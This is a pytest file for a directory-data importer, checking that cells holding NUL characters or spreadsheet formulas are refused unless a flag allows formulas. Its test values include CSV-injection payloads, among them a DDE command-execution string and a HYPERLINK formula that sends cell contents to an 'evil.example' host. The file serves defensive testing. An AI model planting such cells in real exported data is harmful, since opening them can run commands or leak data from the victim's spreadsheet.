"""HSDS import refuses cells that would harm whoever opens the data later: a NUL character
(PostgreSQL cannot store it) on every backend, and text that a spreadsheet runs as a formula
unless the operator allows it (``--allow-formula-cells``); the HSDS export stays faithful."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest
from sqlalchemy import func, select

from bot.app import App
from bot.cli import main
from bot.models.directory import DirectoryOrganization, DirectoryService
from knowledge.hsds_common import ImportFailed, cell_problem
from knowledge.hsds_export import export_csv
from knowledge.hsds_import import import_path

FORMULA = ("starts with {!r}, which a spreadsheet runs as a formula; fix the cell or import "
           "with --allow-formula-cells")
NUL = "contains a NUL character (U+0000); remove it"
ORG_NAME = "Example Organization Inc."  # organizations.csv, row 2, in the official example


@pytest.mark.parametrize("value", [
    "=HYPERLINK(\"http://x\",\"clic\")", "@SUM(A1:A2)", "+cmd|' /C calc'!A0", "-2+3+cmd|x",
    "\tHébergement", "\rHébergement", "  =1+1", "- liste à puces", "+ de 18 ans",
])
def test_formula_like_text_is_a_problem(value: str) -> None:
    lead = value[0] if value[0] in "\t\r" else value.strip()[0]
    assert cell_problem("string", value) == FORMULA.format(lead)
    assert cell_problem("string", value, allow_formula_cells=True) is None


@pytest.mark.parametrize("kind,value", [
    ("string", "+1 514 555-0100"), ("string", "+1 (514) 555-0100 poste 12"),
    ("string", "-73.5673"), ("string", "Maison = refuge"), ("string", "jeunes 12-17"),
    ("number", "-73.5673"), ("number", "+45.5"), ("integer", "-3"), ("string", ""),
    ("list", ["06", "16"]), ("boolean", True), ("string", None),
])
def test_numbers_phones_and_plain_text_pass(kind: str, value: object) -> None:
    assert cell_problem(kind, value) is None


@pytest.mark.parametrize("kind", ["string", "number", "date", "time", "boolean"])
def test_nul_is_refused_in_every_column_even_when_formulas_are_allowed(kind: str) -> None:
    assert cell_problem(kind, "12\x00", allow_formula_cells=True) == NUL
    assert cell_problem("list", ["06", "1\x006"]) == NUL


# ------------------------------------------------------------------------------ import
def package_with(hsds_dir: Path, tmp_path: Path, file: str, old: str, new: str) -> Path:
    target = tmp_path / "package"
    shutil.copytree(hsds_dir / "csv", target)
    path = target / file
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return target


async def run_import(app: App, path: Path, **options):  # type: ignore[no-untyped-def]
    async with app.sessionmaker() as session:
        report = await import_path(session, path, now=app.clock.now(), gazetteer=app.gazetteer,
                                   taxonomy=app.taxonomy, **options)
        await session.commit()
    return report


async def counts(app: App) -> tuple[int, int]:
    async with app.sessionmaker() as session:
        return (
            int(await session.scalar(select(func.count()).select_from(DirectoryOrganization)) or 0),
            int(await session.scalar(select(func.count()).select_from(DirectoryService)) or 0),
        )


async def refused(app: App, path: Path, **options) -> list[str]:  # type: ignore[no-untyped-def]
    before = await counts(app)
    with pytest.raises(ImportFailed) as failed:
        await run_import(app, path, **options)
    assert await counts(app) == before  # all or nothing
    return [str(problem) for problem in failed.value.problems]


async def test_formula_organisation_name_is_a_problem_unless_allowed(
    app: App, hsds_dir: Path, tmp_path: Path
) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"Organisme")'
    quoted = '"' + name.replace('"', '""') + '"'  # a CSV cell with quotes and a comma
    package = package_with(hsds_dir, tmp_path, "organizations.csv", ORG_NAME, quoted)
    assert await refused(app, package) == [
        "organizations.csv, row 2, column name: " + FORMULA.format("=")]

    report = await run_import(app, package, allow_formula_cells=True)
    assert report.organizations == 1
    async with app.sessionmaker() as session:
        assert await session.scalar(select(DirectoryOrganization.name)) == name
        await export_csv(session, tmp_path / "out")
    # the HSDS export is faithful to the data: no quote added
    with (tmp_path / "out" / "organizations.csv").open(encoding="utf-8", newline="") as handle:
        assert [row["name"] for row in csv.DictReader(handle)] == [name]


async def test_every_text_column_is_checked_numbers_are_not(
    app: App, hsds_dir: Path, tmp_path: Path
) -> None:
    document = {"organizations": [{
        "id": "o1", "name": "Org", "description": "@cmd", "services": [{
            "id": "s1", "name": "Refuge", "status": "active", "description": "\tcaché",
            "x_regions": ["06"], "minimum_age": "-1",
            "phones": [{"id": "p1", "number": "+1 514 555-0100"},
                       {"id": "p2", "number": "+cmd|' /C calc'!A0"}],
            "service_at_locations": [{"id": "sal1", "location": {
                "id": "l1", "latitude": -73.56, "longitude": "-45.5", "name": "-=lieu"}}],
        }],
    }]}
    path = tmp_path / "d.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    where = "organizations[0].services[0]"
    assert sorted(await refused(app, path)) == sorted([
        "d.json, row organizations[0], column description: " + FORMULA.format("@"),
        f"d.json, row {where}, column description: " + FORMULA.format("\t"),
        f"d.json, row {where}, column minimum_age: not a plausible age (-1)",
        f"d.json, row {where}.phones[1], column number: " + FORMULA.format("+"),
        f"d.json, row {where}.service_at_locations[0].location, column name: "
        + FORMULA.format("-"),
    ])


@pytest.mark.parametrize("form", ["csv", "json"])
async def test_nul_is_refused_on_every_backend_and_nothing_is_imported(
    app: App, hsds_dir: Path, tmp_path: Path, form: str
) -> None:
    from knowledge.seed import ensure_sample_directory

    await ensure_sample_directory(app)  # a directory already there stays as it was
    if form == "csv":
        path = package_with(hsds_dir, tmp_path, "organizations.csv", ORG_NAME, "Example\x00Org")
        expected = "organizations.csv, row 2, column name: " + NUL
    else:
        path = tmp_path / "nul.json"
        path.write_text(json.dumps({"id": "s1", "name": "Refuge\x00", "status": "active",
                                    "organization": {"id": "o\x001", "name": "Org"}}),
                        encoding="utf-8")
        expected = "nul.json, row $, column name: " + NUL
    for allow in (False, True):
        problems = await refused(app, path, allow_formula_cells=allow)
        assert expected in problems, problems
        assert all(p.endswith(NUL) for p in problems), problems


def test_cli_lists_the_problems_and_the_flag_lets_formulas_in(
    db_url: str, hsds_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    package = package_with(hsds_dir, tmp_path, "organizations.csv", ORG_NAME, "@Organisme")
    database = ["--database", db_url]
    assert main(["directory", "import", str(package), *database]) == 1
    captured = capsys.readouterr()
    assert captured.err.splitlines() == [
        "relais: nothing imported, 1 problem(s):",
        "  - organizations.csv, row 2, column name: " + FORMULA.format("@"),
    ]
    assert main(["directory", "import", str(package), "--allow-formula-cells", *database]) == 0
    assert "1 service(s) of 1 organization(s) imported" in capsys.readouterr().out

    services = package / "services.csv"
    text = services.read_text(encoding="utf-8")
    services.write_text(text.replace("Community Counselling", "Community\x00Counselling", 1),
                        encoding="utf-8")
    assert main(["directory", "import", str(package), "--allow-formula-cells", *database]) == 1
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    assert captured.err.splitlines() == [
        "relais: nothing imported, 1 problem(s):",
        "  - services.csv, row 2, column name: " + NUL,
    ]
